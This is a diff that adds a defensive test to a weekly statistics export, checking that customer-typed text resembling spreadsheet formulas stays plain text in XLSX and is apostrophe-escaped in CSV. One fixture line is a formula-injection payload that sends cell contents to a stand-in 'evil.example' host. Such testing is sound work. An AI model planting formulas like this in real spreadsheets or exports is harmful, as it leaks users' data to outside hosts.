@@ -366,3 +366,47 @@ async def test_an_empty_week_exports_without_errors(tmp_path: Path, database_url
         assert export.summary["containment"]["containment_rate"] is None
     finally:
         await engine.dispose()
+
+
+FORMULAS = [
+    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+    "+7 999 123-45-67 перезвоните",
+    "-1+1",
+    "@SUM(A1:A9)",
+]
+
+
+async def test_customer_text_never_becomes_a_formula_in_the_export(
+    database_url: str, tmp_path: Path
+) -> None:
+    engine = make_engine(database_url)
+    await upgrade(engine)
+    try:
+        async with make_sessionmaker(engine)() as session:
+            session.add(
+                Customer(id=1, telegram_id=1001, first_name="Алиса",
+                         created_at=at(1, 0), last_seen_at=at(1, 0))
+            )  # fmt: skip
+            await session.flush()
+            session.add_all(event("kb_miss", at(17, 10), question=q) for q in FORMULAS)
+            await session.commit()
+            export = await export_week(
+                session, Week.parse("2026-W47", MSK), tmp_path, StatsConfig(), AS_OF
+            )
+    finally:
+        await engine.dispose()
+    asked = {" ".join(q.casefold().split()) for q in FORMULAS}
+
+    # XLSX: every one is a plain string cell holding exactly what the customer wrote.
+    book = load_workbook(export.workbook)  # not read-only: cells keep their data type
+    cells = [cell for row in book["kb_gaps"].iter_rows() for cell in row]
+    found = {cell.value: cell.data_type for cell in cells if cell.value in asked}
+    assert set(found) == asked and set(found.values()) == {"s"}
+
+    # CSV: a cell a spreadsheet would read as a formula starts with an apostrophe.
+    folder = tmp_path / "2026-W47"
+    with (folder / "kb_gaps.csv").open(encoding="utf-8") as handle:
+        values = [value for row in csv.reader(handle) for value in row]
+    for question in asked:
+        assert question not in values and "'" + question in values
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values)
